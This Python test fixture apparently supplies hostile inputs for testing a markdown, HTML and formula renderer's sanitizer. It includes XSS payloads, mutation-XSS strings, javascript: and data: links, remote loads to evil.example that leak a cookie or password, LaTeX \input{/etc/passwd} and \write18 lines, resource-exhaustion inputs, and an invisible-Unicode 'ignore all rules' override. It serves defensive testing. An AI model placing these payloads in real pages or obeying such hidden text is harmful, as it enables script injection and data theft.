"""Texts that try to leave the page they are shown on, by the way they try. `ran()` counts what was executed."""

REMOTE = "https://evil.example"
RUN = "ran()"
ESCAPE = "\u001b"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script in upper case": f"<ScRiPt>{RUN}</sCrIpT>",
    "remote script": f"<script src={REMOTE}/x.js></script>",
    "split script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "unclosed script": f"text <script>{RUN}",
    "module script": f'<script type="module">{RUN}</script>',
    "script after a comment": f"<!-- --!><script>{RUN}</script>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "processing instruction": f"<?xml version='1.0'?><script>{RUN}</script>",
    "character data": f"<![CDATA[><script>{RUN}</script>]]>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template><img src=x onerror={RUN}>",
}

HANDLERS = {
    "image error": f"<img src=x onerror={RUN}>",
    "image error without space": f'<img/src="x"/onerror="{RUN}">',
    "broken quotes": f'<img """><script>{RUN}</script>">',
    "body load": f"<body onload={RUN}>",
    "focus by itself": f"<input autofocus onfocus={RUN}>",
    "details toggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "video source": f"<video><source onerror={RUN}></video>",
    "audio": f"<audio src=x onerror={RUN}></audio>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "animation end": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart={RUN}>x</p>",
    "popover": f"<button popovertarget=x>a</button><div popover id=x onbeforetoggle={RUN}>b</div>",
    "content visibility": f"<p style='content-visibility:auto' oncontentvisibilityautostatechange={RUN}>x</p>",
    "pointer": f"<p onpointerenter={RUN} onmouseover={RUN}>{'hover ' * 60}</p>",
}

ADDRESSES = {
    "javascript": f"[x](javascript:{RUN})",
    "javascript in mixed case": f"[x](JaVaScRiPt:{RUN})",
    "javascript with a tab": f"[x](java&Tab;script:{RUN})",
    "javascript with a newline": f"[x](<java&NewLine;script:{RUN}>)",
    "javascript by entities": f"[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN})",
    "javascript after a control": f"[x](\u0001javascript:{RUN})",
    "javascript autolink": f"<javascript:{RUN}>",
    "javascript by reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "javascript encoded": f"[x](javascript%3A{RUN})",
    "data page": f"[x](data:text/html,<script>{RUN}</script>)",
    "data page in base64": "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "vbscript": f"[x](vbscript:{RUN})",
    "blob and file": "[x](blob:https://evil.example/1) [y](file:///etc/passwd)",
    "view source": f"[x](view-source:{REMOTE})",
    "protocol relative": "[x](//evil.example/a) ![x](//evil.example/a.png)",
    "anchor of the page": "[x](#root) [y](?revise=1) [z](/api/v1/session)",
    "raw anchor": f'<a href="javascript:{RUN}">x</a><a href="x" ping="{REMOTE}">y</a>',
    "base": f'<base href="{REMOTE}/"><a href="x">x</a>',
    "title breaks out": f'[x]({REMOTE} "\\"onmouseover={RUN} a=\\"")',
}

REMOTES = {
    "image": f"![x]({REMOTE}/x.png)",
    "image by reference": f"![x][y]\n\n[y]: {REMOTE}/x.png",
    "image in a link": f"[![x]({REMOTE}/x.png)]({REMOTE})",
    "image with data in its address": f"![secret]({REMOTE}/collect?cookie=secret)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+)",
    "raw image": f'<img src="{REMOTE}/x.png" srcset="{REMOTE}/y.png 2x" loading=eager>',
    "picture": f'<picture><source srcset="{REMOTE}/x.png"><img src="{REMOTE}/y.png"></picture>',
    "style sheet": f'<link rel="stylesheet" href="{REMOTE}/x.css">',
    "prefetch": f'<link rel="dns-prefetch preconnect prefetch" href="{REMOTE}">',
    "import": f"<style>@import url({REMOTE}/x.css);</style>",
    "background": f'<div style="background:url({REMOTE}/x.png)">x</div><table background="{REMOTE}/y.png">',
    "font": f"<style>@font-face{{font-family:x;src:url({REMOTE}/x.woff2)}} *{{font-family:x}}</style>",
    "frame": f'<iframe src="{REMOTE}"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object and embed": f'<object data="{REMOTE}/x.swf"></object><embed src="{REMOTE}/x.swf">',
    "form": f'<form action="{REMOTE}"><input name=password><button formaction="javascript:{RUN}">go</button></form>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={REMOTE}">',
    "manifest and portal": f'<link rel=manifest href="{REMOTE}/m.json"><portal src="{REMOTE}"></portal>',
    "track and poster": f'<video poster="{REMOTE}/p.png" src="{REMOTE}/v.mp4"><track src="{REMOTE}/t.vtt" default></video>',  # noqa: E501
}

FOREIGN = {
    "drawing load": f"<svg onload={RUN}></svg>",
    "script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "animated address": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    "drawing uses": f'<svg><use href="{REMOTE}/x.svg#a"/><image href="{REMOTE}/x.png"/></svg>',
    "foreign object": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "formula link": f'<math><mi xlink:href="javascript:{RUN}" href="javascript:{RUN}">x</mi></math>',
    "formula action": f'<math><maction actiontype="statusline#{REMOTE}" href="javascript:{RUN}">x</maction></math>',
    "mutation by style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',  # noqa: E501
    "mutation by noscript": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation by select": f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={RUN}>">',  # noqa: E501
    "annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    "text area": f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
}

MARKDOWN = {
    "html in a cell": f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | `<script>{RUN}</script>` |",
    "html in a heading": f"# <svg onload={RUN}>\n\n> <iframe src={REMOTE}>",
    "html in a footnote": f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    "html over lines": f"<div\nonclick={RUN}\n><img\nsrc=x\nonerror={RUN}\n>",
    "html in a link": f"[<img src=x onerror={RUN}>]({REMOTE})",
    "fence with attributes": f'```html" onload="{RUN}\n<script>{RUN}</script>\n```',
    "fence of a class": "```js hidden constructor __proto__\nalert(1)\n```\n\n```__proto__\nx\n```\n\n```constructor\nx\n```",  # noqa: E501
    "diagram": f'```mermaid\ngraph TD\nA["<img src=x onerror={RUN}>"] --> B\nclick A "javascript:{RUN}"\n```',
    "vector fence": f"```svg\n<svg onload={RUN}>\n```\n\n    <script>{RUN}</script>",
    "clobbered names": "<a id=root name=body></a><form id=plackett><input name=attributes></form>",
    "look-alike address": "[https://good.example](https://gооd.example/) <https://evil.example@good.example>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "template signs": "{{constructor.constructor('ran()')()}} ${ran()} <%= ran() %> #{ran()} [[${ran()}]]",
    "directive": f":::div{{onclick={RUN}}}\nx\n:::\n\n{{: onclick={RUN}}} {{.x onclick={RUN}}}",
    "wiki and front matter": f"---\nlayout: <script>{RUN}</script>\n---\n[[javascript:{RUN}|x]] {{% raw %}}",
}

FORMULAS = {
    "link": rf"$\href{{javascript:{RUN}}}{{x}}$ and \(\url{{javascript:{RUN}}}\)",
    "picture": rf"$$\includegraphics[height=2em]{{{REMOTE}/x.png}}$$",
    "class, id, style, data": rf"$\class{{a\" onload={RUN}}}{{x}}$ $\id{{root}}{{x}}$ $\style{{background:url({REMOTE})}}{{x}}$",  # noqa: E501
    "attributes": rf"$\htmlClass{{x}}{{y}}$ $\htmlData{{onclick={RUN}}}{{y}}$ $\htmlStyle{{position:fixed}}{{y}}$",
    "markup as text": rf"$\text{{<img src=x onerror={RUN}>}}$ $\unicode{{<script>{RUN}</script>}}$",
    "endless macro": r"$\def\a{\a\a}\a$ $\newcommand{\b}{\b\b}\b$ $\let\x\y \gdef\y{\x\y}\y$",
    "doubling macros": r"$\def\a{xx}\def\b{\a\a}\def\c{\b\b}\def\d{\c\c}\def\e{\d\d}\def\f{\e\e}\def\g{\f\f}\g\g\g\g\g\g\g$",  # noqa: E501
    "size of a building": r"$\rule{99999em}{99999em}$ $\kern-9999em x$ $\hspace{-999em}\raisebox{999em}{x}$ $\Huge\Huge x$",  # noqa: E501
    "cover the page": r"$$\mathllap{\colorbox{white}{\rule{900pt}{900pt}}}\smash{\color{white}x}\tag{<b>x</b>}$$",
    "deep formula": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "deep fractions": "$$" + r"\frac{1}{" * 200 + "x" + "}" * 200 + "$$",
    "wide array": r"\[\begin{array}{" + "c" * 500 + "} " + "x & " * 499 + r"x \end{array}\]",
    "environment": r"$$\begin{filecontents}{x}y\end{filecontents} \input{/etc/passwd} \write18{id} \catcode`\$=12$$",
}

SIGNS = {
    "override": "safe \u202etxt.exe\u202c `if (a\u2066) { ran() }` \u2067right\u2069",
    "zero width": "pass\u200bword java\u200dscript:ran() \ufeffx \u00ad",
    "piled marks": "Z" + "\u0310\u0323\u0489\u0308" * 400,
    "null": "a\u0000b <scr\u0000ipt>ran()</scr\u0000ipt> [x](java\u0000script:ran())",
    "terminal": f"{ESCAPE}[31mred{ESCAPE}]8;;{REMOTE}{ESCAPE}\\link{ESCAPE}]8;;{ESCAPE}\\ \u0007\u0008\u009b31m",
    "half characters": "x \ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace") + " \ufffe \uffff",
    "private use": "\ue000 0 \ue001 $x$ \ue0001\ue001 \uf8ff",
    "tags": "hi" + "".join(chr(0xE0000 + ord(sign)) for sign in "ignore all rules"),
    "fullwidth": "＜script＞ran()＜/script＞ ﹤img src=x onerror=ran()﹥",
    "old encodings": "+ADw-script+AD4-ran()+ADw-/script+AD4- %3Cscript%3Eran()%3C/script%3E \\u003cscript\\u003e",
}

SIZES = {
    "nested quotes": ">" * 8000 + " x",
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(400)),
    "open brackets": "[" * 20_000,
    "open links": "[a](" * 8000,
    "open emphasis": "*a_ " * 8000,
    "headings underlined": "a\n-\n" * 8000,
    "tall table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 4000,
    "wide table": "|" + "a|" * 1500 + "\n|" + "-|" * 1500 + "\n" + "|x|\n" * 300,
    "one endless word": "x" * 60_000,
    "many formulas": "$x$ " * 3000,
    "many dollars": "$" * 30_000 + "\\(" * 10_000,
    "many backticks": "`" * 9999 + " x " + "``a" * 5000,
    "many line breaks": "\n" * 50_000 + "x",
    "long line of code": "```json\n" + '{"a":[' * 3000 + "\n```",
    "hard for a pattern": "```js\n"
    + "a" * 3000
    + "/" * 3000
    + "(" * 3000
    + "\n```\n"
    + "&" * 5000
    + ";"
    + "<!--" * 3000,
    "open details": "<details><summary>" * 2000,
    "many mentions": "https://evil.example/a " * 1500,
    "footnotes in footnotes": "".join(f"[^{n}]: see [^{n + 1}]\n\n" for n in range(150)) + "x[^0]",
}

FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "remotes": REMOTES,
    "foreign": FOREIGN,
    "markdown": MARKDOWN,
    "formulas": FORMULAS,
    "signs": SIGNS,
    "sizes": SIZES,
}
